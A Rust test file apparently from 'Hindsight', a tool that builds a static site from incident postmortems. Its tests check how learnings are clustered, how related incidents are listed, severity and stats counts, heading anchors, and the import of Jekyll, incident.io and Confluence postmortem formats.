    let actions = &page[page.find("id=\"actions-h\"").unwrap()..];
    let chip = "<a class=\"chip\" href=\"../../learnings/we-have-replaced-the-old-shared-mailbox/\">Nordfreight&#39;s integration desk was responsive once we reached them; we lost 15 minutes…</a> <span class=\"muted\">possibly related: grouped on one word or related words</span>";
    assert!(actions.contains(chip), "{actions}");
    let list = site.page("action-items/index.html");
    assert!(
        list.contains("possibly related: grouped on one word or related words"),
        "{list}"
    );
}

#[test]
fn a_related_incident_names_its_shared_services_and_tags_in_one_reason_each() {
    let pm = |id: &str, body: &str| {
        format!("---\nid: {id}\ntitle: Outage {id}\ndate: 2024-03-01\nservices: [api, checkout]\ntags: [dns, tls]\n---\n\n## Summary\n\n{body}\n")
    };
    let site = Site::with(&[
        ("content/a.md", &pm("A-1", "The resolver failed.")),
        ("content/b.md", &pm("B-2", "A certificate expired.")),
    ]);
    site.build_ok();
    let page = site.text("incidents/A-1/index.html");
    assert!(
        page.contains("same services: api, checkout; same tags: dns, tls"),
        "{page}"
    );
    assert!(!page.contains("same service: api"), "{page}");
}

#[test]
fn the_build_summary_of_one_incident_and_one_warning_is_in_the_singular() {
    let site = Site::with(&[(
        "content/2024-03-01-disk-full.md",
        "# Disk full\n\nThe disk filled.\n\n## Learnings\n\n- Alert on disk use before it fills.\n",
    )]);
    let out = site.root.join("public");
    let o = bin()
        .args(["build", "--root"])
        .arg(&site.root)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(
        err.contains("Built 1 incident, 1 learning (0 in two or more incidents)"),
        "{err}"
    );
    assert!(err.contains(", 1 warning in "), "{err}");
}

#[test]
fn an_intranet_site_turns_the_relative_feeds_warning_off_in_check_rules() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    small_site(
        &root,
        "title = \"Intranet\"\n\n[check.rules]\nrelative-feeds = \"off\"\n",
    );
    let out = tmp.path().join("public");
    let o = build(&root, &out);
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(!err.contains("base_url"), "{err}");
    assert!(!err.contains("warning"), "{err}");
    // Without the setting the same site is warned, under the rule's own name.
    small_site(&root, "title = \"Intranet\"\n");
    let o = build(&root, &out);
    assert!(stderr(&o).contains("relative-feeds"), "{}", stderr(&o));
}

#[test]
fn a_title_read_from_the_first_heading_drops_the_incident_s_own_id_before_it() {
    let site = Site::with(&[
        (
            "content/INC-4412 carrier api outage.md",
            "# INC-4412: Nordfreight API outage and our retry storm\n\nThe carrier API failed.\n",
        ),
        (
            "content/b.md",
            "---\nid: QS-7\ndate: 2024-03-01\n---\n# qs-7 - Labels stuck in queue\n\nText.\n",
        ),
        // A front matter title is kept as written.
        (
            "content/c.md",
            "---\nid: QS-8\ntitle: \"QS-8: Disk full\"\ndate: 2024-03-02\n---\n# QS-8: Disk full\n\nText.\n",
        ),
    ]);
    site.build_ok();
    let title = |id: &str| site.incident(id)["title"].as_str().unwrap().to_string();
    assert_eq!(
        title("INC-4412"),
        "Nordfreight API outage and our retry storm"
    );
    assert_eq!(title("QS-7"), "Labels stuck in queue");
    assert_eq!(title("QS-8"), "QS-8: Disk full");
    let page = site.page("incidents/INC-4412/index.html");
    assert!(
        page.contains("<h1 id=\"incident-title\">Nordfreight API outage and our retry storm</h1>"),
        "{page}"
    );
}

#[test]
fn incidents_of_no_severity_are_listed_on_the_severity_page_and_counted_on_stats_so_totals_add_up()
{
    let site = Site::fixture("quayside");
    site.build_ok();
    // 15 of Quayside's 40 incidents have a severity; the other 25 are a group of their own.
    let index = site.page("severity/index.html");
    assert!(
        index.contains("<li><a href=\"#no-severity\">No severity recorded <span class=\"count\">25<span class=\"visually-hidden\"> incidents</span></span></a></li></ul>"),
        "{index}"
    );
    let group = &index[index.find("<h2 id=\"no-severity\">").expect(&index)..];
    assert!(
        group.starts_with(
            "<h2 id=\"no-severity\">No severity recorded <span class=\"count\">25</span></h2>"
        ),
        "{group}"
    );
    assert_eq!(group.matches("<li class=\"card\">").count(), 25, "{group}");
    assert!(group.contains("href=\"../incidents/INC-4412/\""), "{group}");
    assert!(!group.contains("class=\"sev "), "{group}");
    let counts = |html: &str| -> usize {
        html.split("<span class=\"count\">")
            .skip(1)
            .map(|c| c[..c.find('<').unwrap()].parse::<usize>().unwrap())
            .sum()
    };
    let pills = &index[index.find("<ul class=\"terms\">").unwrap()..];
    let pills = &pills[..pills.find("</ul>").unwrap()];
    assert_eq!(counts(pills), 40, "{pills}");
    // /stats/: a last row of its own, leading to that group; the rows add up to every incident.
    let stats = site.page("stats/index.html");
    let severity = &stats[stats.find("<h2>Severity</h2>").unwrap()..];
    let severity = &severity[..severity.find("</ul>").unwrap()];
    assert!(
        severity.ends_with("<li><a href=\"../severity/#no-severity\">No severity recorded</a><span class=\"bar\" style=\"--pct: 100%\"></span><span class=\"count\">25</span></li>"),
        "{severity}"
    );
    assert_eq!(counts(severity), 40, "{severity}");
    // Where no incident has a severity, neither page makes every incident a group of none.
    let none = Site::with(&[("content/a.md", "# Disk full\n\nText.\n")]);
    none.build_ok();
    assert!(!none.page("severity/index.html").contains("no-severity"));
    assert!(none
        .text("stats/index.html")
        .contains("Severity None recorded: no postmortem states one yet"));
}

#[test]
fn stats_counts_a_canonical_learning_no_incident_cites_so_its_totals_agree_with_the_learnings_list()
{
    // The demo, with one more canonical learning that no incident cites yet.
    let site = Site::empty();
    copy_tree(&repo().join("content"), &site.root.join("content"));
    std::fs::copy(
        repo().join("hindsight.toml"),
        site.root.join("hindsight.toml"),
    )
    .unwrap();
    write_files(
        &site.root,
        &[(
            "content/learnings/rehearse-the-failover.md",
            "# Rehearse the failover\n\nA failover nobody has tried is a hope, not a plan.\n",
        )],
    );
    site.build_ok();
    // Every section of /learnings/, with its count: the "Not cited yet" one among them.
    let page = site.page("learnings/index.html");
    let section = |id: &str| -> usize {
        let at = format!("id=\"{id}\">");
        let h = &page[page.find(&at).unwrap_or_else(|| panic!("{id}: {page}"))..];
        let n = &h[h.find("<span class=\"count\">").unwrap() + 20..];
        n[..n.find('<').unwrap()].parse().unwrap()
    };
    let (recurring, possibly, once, unused) = (
        section("rec-h"),
        section("possibly-h"),
        section("once-h"),
        section("unused-h"),
    );
    assert_eq!(unused, 1);
    let stats = site.text("stats/index.html");
    let total = recurring + possibly + once + unused;
    assert!(
        stats.contains(&format!(
            "{recurring} of {total} learnings seen in two or more incidents"
        )),
        "{stats}"
    );
    assert!(
        stats.contains(&format!(
            "{once} of them were seen in one incident only; {possibly} are possibly related, grouped on one word or on related words alone; 1 is a canonical learning not cited yet, by no incident."
        )),
        "{stats}"
    );
    assert!(
        site.page("stats/index.html").contains(
            "<a href=\"../learnings/#unused-h\">1 is a canonical learning not cited yet</a>"
        ),
        "{stats}"
    );
}

#[test]
fn a_postmortem_s_own_action_items_heading_reads_apart_from_the_panel_on_the_page_and_keeps_its_anchor(
) {
    let site = Site::with(&[(
        "content/a.md",
        "---\nid: A-1\ntitle: Disk full\n---\n\n## Summary\n\nThe disk filled.\n\n\
         ## What we learned\n\n- Disks fill up when nobody watches them.\n\n\
         ## Timeline\n\n- 10:00 full\n\n## 5. Action Items\n\n- [ ] Alert on disk usage (owner: ops)\n",
    )]);
    site.build_ok();
    let page = site.page("incidents/A-1/index.html");
    let headings: Vec<String> = page
        .split("<h2")
        .skip(1)
        .map(|h| {
            let h = &h[..h.find("</h2>").unwrap()];
            squeeze(&html_text(&format!("<h2{h}")))
                .trim_end_matches('#')
                .trim()
                .to_string()
        })
        .filter(|h| h != "Contents")
        .collect();
    assert_eq!(
        headings,
        [
            "What we learned",
            "Action items",
            "Summary",
            "What we learned (as written)",
            "Timeline",
            "5. Action Items (as written)"
        ],
        "{page}"
    );
    // The panels' anchors, which other pages link to, and the headings' own, which search hits
    // and the authors' links lead to, are unchanged.
    assert!(
        page.contains("<h2 id=\"actions-h\">Action items</h2>"),
        "{page}"
    );
    assert!(
        page.contains("<h2 id=\"learned-h\">What we learned</h2>"),
        "{page}"
    );
    assert!(
        page.contains("<h2 id=\"5-action-items\">5. Action Items <span class=\"as-written\">(as written)</span> <a class=\"anchor\" href=\"#5-action-items\""),
        "{page}"
    );
    // A heading named like no panel the page shows is left as written.
    let plain = Site::with(&[(
        "content/b.md",
        "---\nid: B-1\ntitle: Disk full\naction_items: []\n---\n\n## Action items\n\nNone were needed.\n",
    )]);
    plain.build_ok();
    let page = plain.page("incidents/B-1/index.html");
    assert!(!page.contains("as-written"), "{page}");
}

#[test]
fn a_learning_seen_once_only_through_an_action_item_links_its_incident_s_action_items() {
    let site = Site::with(&[
        (
            "content/a.md",
            "---\ndate: 2024-03-01\naction_items:\n  - text: Name an owner for every cron job\n    learning: own-what-you-run\n---\n# Disk full\n\nText.\n",
        ),
        (
            "content/learnings/own-what-you-run.md",
            "# Own what you run\n\nEvery job has an owner.\n",
        ),
    ]);
    site.build_ok();
    let page = site.page("learnings/index.html");
    let once = &page[page.find("id=\"once-h\"").expect(&page)..];
    assert!(
        once.contains("<li><p class=\"once-text\"><a href=\"../learnings/own-what-you-run/\">Own what you run</a></p>\n      <p class=\"once-from\">An action item of <a href=\"../incidents/a/#actions-h\">Disk full</a> · <span class=\"id\">a</span> · <time datetime=\"2024-03-01\">2024-03-01</time></p></li>"),
        "{once}"
    );
}

#[test]
fn a_quayside_cluster_on_one_hyphenated_word_on_related_words_alone_or_beside_an_idea_most_incidents_share_is_possibly_related(
) {
    let site = Site::fixture("quayside");
    site.build_ok();
    let tentative = |id: &str| exported_learning(&site, id)["tentative"] == true;
    // "hard-coded" is one word, not "hard" and "coded": a runbook's list and a DNS record.
    assert!(tentative("a-runbook-with-a-hard-coded-list-silently"));
    let page = site.text("learnings/a-runbook-with-a-hard-coded-list-silently/index.html");
    assert!(
        page.contains("Hindsight grouped these only on the word “hard-coded”"),
        "{page}"
    );
    // A business-level alert that took 23 minutes, and mapping rejections invisible to
    // alerting and logged at debug level: "alert", which most Quayside incidents use, and
    // "level" alone.
    assert!(tentative("the-business-level-alert-worked-but-took-23"));
    // The two incidents in which checkout-api's autoscaling exhausted Postgres connections
    // learned one lesson: a pooler between the pods and the database.
    assert_eq!(
        exported_learning(&site, "put-pgbouncer-in-front-of-checkout-db-so")["incidents"],
        serde_json::json!(["QS-2022-003", "QS-2023-011"])
    );
    assert!(!tentative("put-pgbouncer-in-front-of-checkout-db-so"));
    // No shared word: a readiness probe and a "healthy" printing pipeline met on health
    // checks and dependencies alone. The page names the words that met.
    assert!(tentative("the-readiness-probe-turned-a-partial-problem"));
    let page = site.text("learnings/the-readiness-probe-turned-a-partial-problem/index.html");
    assert!(page.contains("“readiness”"), "{page}");
    assert!(page.contains("“healthy”"), "{page}");
    // Its incident page does not say QS-2022-003 learned it before.
    let page = site.text("incidents/QS-2023-009/index.html");
    assert!(!page.contains("Learned before in QS-2022-003"), "{page}");
    // A word and a concept not every incident evokes is how paraphrases meet: "slower" and
    // "slow" beside "consumer" stay firm.
    assert!(!tentative("processing-time-per-message-is-part-of"));
    assert!(!tentative("capacity-test-before-peak-run-the-planner"));
}

#[test]
fn a_possibly_related_member_that_shares_one_part_of_a_hyphenated_word_is_said_to_share_that_part()
{
    let site = Site::fixture("dfds");
    site.build_ok();
    // PM2020-003 writes "hybrid-pipeline"; the others write "pipelines", not the compound.
    let page = site.text("learnings/not-having-a-clear-way-all-iac/index.html");
    assert!(
        page.contains("PM2020-003 · only “pipelines” in common"),
        "{page}"
    );
    assert!(!page.contains("“hybrid-pipeline”"), "{page}");
}

#[test]
fn the_dfds_ingress_grouping_is_possibly_related_while_the_cloudwatch_learning_and_the_demo_stay_firm(
) {
    let site = Site::fixture("dfds");
    site.build_ok();
    let tentative = |id: &str| exported_learning(&site, id)["tentative"] == true;
    // "ingress" beside the testing that a third of the dfds incidents talk of.
    assert!(tentative(
        "don-t-have-mixed-responsibilities-between-iac-components"
    ));
    // The three incidents whose logs were not shipped to CloudWatch, and two words.
    assert!(!tentative("setup-alerts-for-when-logs-are-not"));
    assert!(!tentative(
        "quickly-address-the-actions-in-postmortems-since"
    ));
    // No concept is that common in the demo's 18 incidents: its counts stay.
    let out = tempfile::tempdir().unwrap();
    build_ok(repo(), out.path());
    let list =
        html_text(&std::fs::read_to_string(out.path().join("learnings/index.html")).unwrap());
    let list = squeeze(&list);
    assert!(list.contains("Recurring 9 "), "{list}");
    assert!(list.contains("Possibly related 3 "), "{list}");
}

/// The ids an incident page names in its lines under a learning ("Learned before in", "Learned
/// again later in", "Action items of ... are meant to address it"; not "Possibly related"), and
/// those its "Related incidents" list names.
fn named_beside_learnings_and_related(page: &str) -> (Vec<String>, Vec<String>) {
    let ids = |html: &str| -> Vec<String> {
        html.split("<span class=\"id\">")
            .skip(1)
            .map(|s| s[..s.find('<').unwrap()].to_string())
            .collect()
    };
    let named = match page.find("id=\"learned-h\"") {
        Some(at) => {
            let learned = &page[at..];
            let learned = &learned[..learned.find("</section>").unwrap()];
            learned
                .split("<p class=\"also\">")
                .skip(1)
                .flat_map(|p| ids(&p[..p.find("</p>").unwrap()]))
                .collect()
        }
        None => Vec::new(),
    };
    let related = match page.find("id=\"related-h\"") {
        Some(at) => {
            let related = &page[at..];
            ids(&related[..related.find("</section>").unwrap()])
        }
        None => Vec::new(),
    };
    (named, related)
}

/// Every incident each page of a built site names under a learning is among its related
/// incidents, on the page and in the export.
fn assert_related_incidents_include_those_named_beside_learnings(site: &Site) {
    let incidents = read_json(&site.out.join("api/incidents.json"));
    let mut named_anywhere = 0;
    for inc in incidents.as_array().unwrap() {
        let id = inc["id"].as_str().unwrap();
        let page = site.page(&format!("incidents/{id}/index.html"));
        let (named, listed) = named_beside_learnings_and_related(&page);
        let exported: Vec<&str> = inc["related"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r.as_str().unwrap())
            .collect();
        for n in &named {
            assert!(
                listed.contains(n),
                "{id}: {n} not on the page among {listed:?}"
            );
            assert!(
                exported.contains(&n.as_str()),
                "{id}: {n} not in {exported:?}"
            );
        }
        named_anywhere += named.len();
    }
    assert!(named_anywhere > 0);
}

#[test]
fn quayside_inc_4412_lists_the_incident_it_learned_from_before_among_its_related_incidents() {
    let site = Site::fixture("quayside");
    site.build_ok();
    let page = site.page("incidents/INC-4412/index.html");
    let (named, _) = named_beside_learnings_and_related(&page);
    assert!(named.contains(&"QS-2021-016".to_string()), "{named:?}");
    let related = &page[page.find("id=\"related-h\"").unwrap()..];
    let qs_2021_016 = squeeze(&html_text(
        related[related.find("QS-2021-016").unwrap()..]
            .split("</li>")
            .next()
            .unwrap(),
    ));
    assert!(
        qs_2021_016.contains("similar learning: Automatic retries without any back-off"),
        "{qs_2021_016}"
    );
    let exported = site.incident("INC-4412")["related"].clone();
    assert!(
        exported.as_array().unwrap().contains(&"QS-2021-016".into()),
        "{exported}"
    );
    assert_related_incidents_include_those_named_beside_learnings(&site);
    // A cluster on one word names its incidents as possibly related: they are not added.
    let exported = site.incident("QS-2022-019")["related"].clone();
    let exported = exported.as_array().unwrap();
    for id in ["QS-2022-006", "QS-2023-009", "QS-2023-013"] {
        assert!(!exported.contains(&id.into()), "{id}: {exported:?}");
    }
}

#[test]
fn every_incident_a_dfds_page_names_beside_a_learning_is_among_its_related_incidents() {
    let site = Site::fixture("dfds");
    site.build_ok();
    assert_related_incidents_include_those_named_beside_learnings(&site);
}

/// What an incident page says of each learning (in "What we learned") or each action item:
/// the id of the learning it links to, and whether it is marked as linked by Hindsight
/// ("linked by Hindsight", or "possibly related" for a tentative cluster); `None` when it
/// links to none.
fn marked_links(page: &str, section: &str, item: &str) -> Vec<Option<(String, bool)>> {
    let Some(at) = page.find(&format!("id=\"{section}\"")) else {
        return Vec::new();
    };
    let part = &page[at..];
    let part = &part[..part.find("</section>").unwrap()];
    part.split(item)
        .skip(1)
        .map(|li| {
            let li = &li[..li.find("</li>").unwrap_or(li.len())];
            let at = li.find("href=\"../../learnings/")?;
            // The link and its mark, on one line; not the marks of incidents named after it.
            let link = &li[at + "href=\"../../learnings/".len()..];
            let link = &link[..link.find('\n').unwrap_or(link.len())];
            let id = link[..link.find('/').unwrap()].to_string();
            let by_hindsight = link.contains("linked by Hindsight</span>")
                || link.contains("possibly related: grouped");
            Some((id, by_hindsight))
        })
        .collect()
}

#[test]
fn every_page_of_the_dfds_and_demo_sites_marks_the_learnings_and_action_items_its_export_says_hindsight_linked(
) {
    let demo = Site::empty();
    copy_tree(&repo().join("content"), &demo.root.join("content"));
    std::fs::copy(
        repo().join("hindsight.toml"),
        demo.root.join("hindsight.toml"),
    )
    .unwrap();
    let exported = |items: &serde_json::Value| -> Vec<Option<(String, bool)>> {
        items
            .as_array()
            .unwrap()
            .iter()
            .map(|l| {
                let id = l["learning"].as_str()?.to_string();
                Some((id, l["linked_by"] == "similarity"))
            })
            .collect()
    };
    let (mut by_hindsight, mut by_authors) = (0, 0);
    for site in [Site::fixture("dfds"), demo] {
        site.build_ok();
        let incidents = read_json(&site.out.join("api/incidents.json"));
        for inc in incidents.as_array().unwrap() {
            let id = inc["id"].as_str().unwrap();
            let page = site.page(&format!("incidents/{id}/index.html"));
            let learnings = exported(&inc["learnings"]);
            assert_eq!(
                marked_links(&page, "learned-h", "\n      <li"),
                learnings,
                "{id}: learnings"
            );
            let actions = exported(&inc["action_items"]);
            assert_eq!(
                marked_links(&page, "actions-h", "<li class=\"action"),
                actions,
                "{id}: action items"
            );
            for (_, hindsight) in learnings.iter().chain(&actions).flatten() {
                if *hindsight {
                    by_hindsight += 1;
                } else {
                    by_authors += 1;
                }
            }
        }
    }
    // Not vacuous: links of both kinds are compared (dfds cites no canonical learning; the
    // demo does).
    assert!(by_hindsight > 100, "{by_hindsight}");
    assert!(by_authors > 5, "{by_authors}");
}

#[test]
fn related_incidents_list_those_named_beside_a_learning_after_the_ranked_ones_and_count_the_rest() {
    // PM-15 states the learning, as do 25 others; four only file an action item for it. Its
    // page names the nearest five before and after that state it, and the four.
    let site = retry_site(30, |k| k % 7 != 0);
    let page = site.page("incidents/PM-15/index.html");
    let (named, listed) = named_beside_learnings_and_related(&page);
    assert_eq!(
        named,
        [
            "PM-09", "PM-10", "PM-11", "PM-12", "PM-13", "PM-16", "PM-17", "PM-18", "PM-19",
            "PM-20", "PM-07", "PM-14", "PM-21", "PM-28"
        ]
    );
    let exported: Vec<String> = site.incident("PM-15")["related"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap().to_string())
        .collect();
    assert_eq!(listed, exported);
    // After the five the ranking puts first, only those the page names beside the learning.
    for id in &named {
        assert!(exported.contains(id), "{id} not in {exported:?}");
    }
    assert!(
        exported[5..].iter().all(|id| named.contains(id)),
        "{exported:?}"
    );
    // The others that share it are counted, with a link to the learning's page.
    let more = 29 - exported.len();
    let related = &page[page.find("id=\"related-h\"").unwrap()..];
    let related = &related[..related.find("</section>").unwrap()];
    assert!(
        squeeze(&html_text(related)).contains(&format!(
            "And {more} more incidents linked to the same learning: Retry with backoff."
        )),
        "{related}"
    );
    assert!(
        related.contains("href=\"../../learnings/retry/\""),
        "{related}"
    );
    // An incident whose page names every other one has no such line.
    let site = retry_site(6, |_| true);
    let page = site.page("incidents/PM-03/index.html");
    assert!(!page.contains("more incidents linked to"), "{page}");
    assert_eq!(
        site.incident("PM-03")["related"].as_array().unwrap().len(),
        5
    );
}

/// The entry of learning `id` in the built site's `api/learnings.json`.
fn exported_learning(site: &Site, id: &str) -> serde_json::Value {
    read_json(&site.out.join("api/learnings.json"))
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["id"] == id)
        .unwrap_or_else(|| panic!("no learning {id}"))
        .clone()
}

/// The learning id the export gives an incident's learning or action item that starts with
/// `text`.
fn learning_of(site: &Site, incident: &str, text: &str) -> String {
    let entry = site.incident(incident);
    let items = entry["learnings"]
        .as_array()
        .unwrap()
        .iter()
        .chain(entry["action_items"].as_array().unwrap());
    items
        .filter(|l| l["text"].as_str().unwrap().starts_with(text))
        .find_map(|l| l["learning"].as_str())
        .unwrap_or_else(|| panic!("{incident}: no learning for {text}"))
        .to_string()
}

/// The text of an incident page's "What we learned" item that contains `text`.
fn learned_item(site: &Site, incident: &str, text: &str) -> String {
    let page = site.page(&format!("incidents/{incident}/index.html"));
    let learned = &page[page.find("id=\"learned-h\"").unwrap()..];
    let learned = &learned[..learned.find("</section>").unwrap()];
    learned
        .split("<li")
        .map(|li| squeeze(&html_text(&format!("<li{li}"))))
        .find(|li| li.contains(text))
        .unwrap_or_else(|| panic!("{incident}: no learning {text}"))
}

#[test]
fn an_incident_joined_to_a_firm_cluster_on_one_word_alone_is_only_possibly_related_to_it() {
    // dfds PM2021-009 "Keep log book" joins a cluster of Fluentd and CloudWatch log alerts on
    // the word "log" alone: the cluster stays firm, but this incident did not learn its lesson.
    let site = Site::fixture("dfds");
    site.build_ok();
    let id = learning_of(&site, "PM2021-009", "Keep log book");
    let item = learned_item(&site, "PM2021-009", "Keep log book");
    assert!(item.contains("Possibly related: "), "{item}");
    assert!(item.contains("only on the word “log”"), "{item}");
    assert!(!item.contains("Learned before in"), "{item}");
    assert!(!item.contains("learned in"), "{item}");
    let page = site.page("incidents/PM2021-009/index.html");
    assert!(!page.contains("class=\"seen-before\""), "{page}");
    let g = exported_learning(&site, &id);
    assert_eq!(g["tentative"], false);
    assert_eq!(g["possibly_related"], serde_json::json!(["PM2021-009"]));
    let all: Vec<&str> = g["incidents"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i.as_str().unwrap())
        .collect();
    assert!(all.contains(&"PM2021-009"), "{all:?}");
    let firm = all.len() - 1;
    assert_eq!(
        g["stated"].as_u64().unwrap() + g["addressed_only"].as_u64().unwrap(),
        firm as u64
    );
    let text = site.text(&format!("learnings/{id}/index.html"));
    assert!(
        text.contains(&format!("Incidents linked to this {firm}")),
        "{text}"
    );
    let possibly = &text[text.find("Possibly related 1").expect(&text)..];
    assert!(possibly.contains("PM2021-009"), "{possibly}");
    assert!(possibly.contains("only “log” in common"), "{possibly}");
    // Its related incidents say so for the pair, never "similar learning".
    let related = site.text("incidents/PM2021-009/index.html");
    let related = &related[related.find("Related incidents").unwrap()..];
    assert!(
        !related.contains("similar learning: Add alarms for Fluentd"),
        "{related}"
    );
    // Its "war room" learning joins PM2021-006's "how serious this was" on "war" alone.
    assert!(
        related.contains(
            "possibly related learnings, alike only in the word “war”: Difficult to get the message out to developers about how serious this was"
        ),
        "{related}"
    );
}

#[test]
fn a_firm_cluster_counts_and_names_only_its_firm_members() {
    // dfds PM2021-002 and PM2021-003 learned "Maintenance in work hours shouldn't rely on a
    // single staff member"; PM2020-006's action item on service account passwords joins them on
    // "maintenance" alone.
    let site = Site::fixture("dfds");
    site.build_ok();
    let id = learning_of(&site, "PM2021-003", "Maintenance in work hours");
    assert_eq!(
        learning_of(
            &site,
            "PM2020-006",
            "DevEX will update all service accounts"
        ),
        id
    );
    let item = learned_item(&site, "PM2021-003", "Maintenance in work hours");
    assert!(item.contains("learned in 2 incidents"), "{item}");
    assert!(item.contains("Learned before in PM2021-002"), "{item}");
    assert!(!item.contains("PM2020-006"), "{item}");
    assert!(!item.contains("Possibly related"), "{item}");
    let g = exported_learning(&site, &id);
    assert_eq!(
        g["incidents"],
        serde_json::json!(["PM2020-006", "PM2021-002", "PM2021-003"])
    );
    assert_eq!(g["possibly_related"], serde_json::json!(["PM2020-006"]));
    // The list of all action items says so of its action item too, as its incident's page does.
    let actions = site.page("action-items/index.html");
    let at = actions
        .find("DevEX will update all service accounts")
        .expect("the action item");
    let entry = &actions[at..at + actions[at..].find("</li>").unwrap()];
    assert!(entry.contains("possibly related"), "{entry}");
    assert!(!entry.contains("linked by Hindsight"), "{entry}");
    assert_eq!(
        (g["stated"].as_u64(), g["addressed_only"].as_u64()),
        (Some(2), Some(0))
    );
    assert_eq!(g["first_seen"], site.incident("PM2021-002")["date"]);
    let links: Vec<&str> = g["incident_links"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["id"].as_str().unwrap())
        .collect();
    assert_eq!(links, ["PM2020-006", "PM2021-002", "PM2021-003"]);
    // The loose member's action item reads as possibly related on its page.
    let page = site.text("incidents/PM2020-006/index.html");
    assert!(
        page.contains("possibly related: grouped on one word or related words"),
        "{page}"
    );
    // PM2021-003's related incidents do not add PM2020-006 as sharing the learning.
    let export = site.incident("PM2021-003");
    let related: Vec<&str> = export["related"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap())
        .collect();
    assert!(related.contains(&"PM2021-002"), "{related:?}");
    assert!(
        !related[related.len().min(5)..].contains(&"PM2020-006"),
        "{related:?}"
    );
}

#[test]
fn a_heading_of_three_hundred_words_gets_an_id_of_at_most_eighty_characters_ending_on_a_whole_word()
{
    let words = "Why the nightly backup of the primary ledger database filled its volume";
    let long = vec![words; 25].join(" ");
    assert!(long.split(' ').count() > 290);
    let site = Site::with(&[(
        "content/a.md",
        &format!(
            "---\nid: A-1\ntitle: Disk full\n---\n\n## {long}\n\nOnce.\n\n## {long}\n\nTwice.\n\n\
             See [the first](#{}).\n",
            hindsight::markdown::github_slug(&long)
        ),
    )]);
    site.build_ok();
    let page = site.page("incidents/A-1/index.html");
    // 13 words are 75 characters; the 14th would make 82.
    let id = "why-the-nightly-backup-of-the-primary-ledger-database-filled-its-volume-why-the";
    assert_eq!(id.len(), 79);
    assert!(page.contains(&format!("<h2 id=\"{id}\">")), "{page}");
    assert!(page.contains(&format!("href=\"#{id}\"")), "{page}");
    // A repeated heading is told apart as before; a link written for GitHub's (uncapped)
    // anchor is led to the id.
    assert!(page.contains(&format!("<h2 id=\"{id}-1\">")), "{page}");
    assert!(
        page.contains(&format!("<a href=\"#{id}\">the first</a>")),
        "{page}"
    );
    assert!(!page.contains("volume-why-the-nightly"), "no id runs on");
}

#[test]
fn each_derived_field_has_its_own_heading_in_the_content_docs_rather_than_a_table_row() {
    let doc = std::fs::read_to_string(repo().join("docs/content.md")).unwrap();
    let start = doc
        .find("\n## What is derived when the front matter does not say it\n")
        .unwrap();
    let section = &doc[start + 1..];
    let section = &section[..section[3..].find("\n## ").map_or(section.len(), |i| i + 3)];
    // The fields `Incident::derived` names, and the id, which comes from the file name.
    for field in [
        "id",
        "title",
        "date",
        "severity",
        "services",
        "tags",
        "summary",
        "learnings",
        "action_items",
    ] {
        assert!(
            section.contains(&format!("\n### `{field}`\n")),
            "no heading for `{field}`"
        );
    }
    assert!(section.contains("\n### Time to detect, time to resolve\n"));
    assert!(
        !section.lines().any(|l| l.starts_with('|')),
        "no table: one heading per field, with paragraphs and lists"
    );
}

/// The action items of a postmortem in the built `templates` fixture, as (text, owner, status,
/// due) with `-` for what is not recorded.
fn template_actions(site: &Site, id: &str) -> Vec<[String; 4]> {
    let field = |a: &serde_json::Value, k: &str| a[k].as_str().unwrap_or("-").to_string();
    site.incident(id)["action_items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            [
                field(a, "text"),
                field(a, "owner"),
                field(a, "status"),
                field(a, "due"),
            ]
        })
        .collect()
}

#[test]
fn a_jekyll_post_builds_with_its_excerpt_as_the_summary_and_published_false_as_a_draft() {
    let site = Site::fixture("templates");
    site.build_ok();
    let post = site.incident("2023-09-14-dns-resolver-outage");
    assert_eq!(
        post["summary"],
        "Internal name resolution failed for 35 minutes after a resolver config push."
    );
    assert_eq!(
        post["tags"],
        serde_json::json!(["postmortem", "networking"])
    );
    let hidden = Site::with(&[(
        "content/2024-01-02-unpublished.md",
        "---\nlayout: post\npublished: false\ntitle: Not yet\n---\n\nText.\n",
    )]);
    hidden.build_ok();
    assert!(!hidden.out.join("incidents/2024-01-02-unpublished").exists());
}

#[test]
fn follow_ups_that_end_in_clauses_after_a_dash_or_comma_give_their_owner_status_and_due_date() {
    let site = Site::fixture("templates");
    site.build_ok();
    let notes = template_actions(&site, "2024-05-20-notification-service-backlog");
    let row = |t: &str, o: &str, s: &str, d: &str| [t, o, s, d].map(String::from);
    assert_eq!(
        notes[..4],
        [
            row(
                "Separate transactional notifications into their own queue.",
                "maria",
                "-",
                "2024-06-01"
            ),
            row(
                "Add a rate limit to campaign sends",
                "jonas",
                "-",
                "2024-06-15"
            ),
            row(
                "Agree campaign send windows with the marketing team",
                "li",
                "open",
                "-"
            ),
            row(
                "Document the queue priorities in the runbook",
                "-",
                "done",
                "-"
            ),
        ]
    );
    // An incident.io export: "— Owner: Priya Raman — Status: Completed"; no one for "Unassigned".
    assert_eq!(
        template_actions(&site, "INC-318"),
        [
            row(
                "Validate card type changes in BIN imports before applying them",
                "Priya Raman",
                "done",
                "-"
            ),
            row(
                "Split the decline rate alert by card brand",
                "-",
                "open",
                "-"
            ),
            row(
                "Ask the card network about the changed file format",
                "Jonas Berg",
                "open",
                "-"
            ),
        ]
    );
}

#[test]
fn a_confluence_export_s_html_tables_and_lists_are_read_as_markdown_ones_are() {
    let site = Site::fixture("templates");
    site.build_ok();
    let id = "postmortem-orders-db-failover-confluence-export";
    let pm = site.incident(id);
    assert_eq!(pm["date"], "2023-06-19");
    assert_eq!(pm["severity"], "SEV1");
    assert_eq!(
        pm["services"],
        serde_json::json!(["orders-db", "order-service"])
    );
    let learnings: Vec<&str> = pm["learnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["text"].as_str().unwrap())
        .collect();
    assert_eq!(
        learnings,
        [
            "A failover is only as good as the clients' ability to follow it.",
            "Maintenance windows should include a check that clients reconnected."
        ]
    );
    let row = |t: &str, o: &str, s: &str, d: &str| [t, o, s, d].map(String::from);
    assert_eq!(
        template_actions(&site, id),
        [
            row(
                "Resolve the database address on every new connection",
                "Ravi Shah",
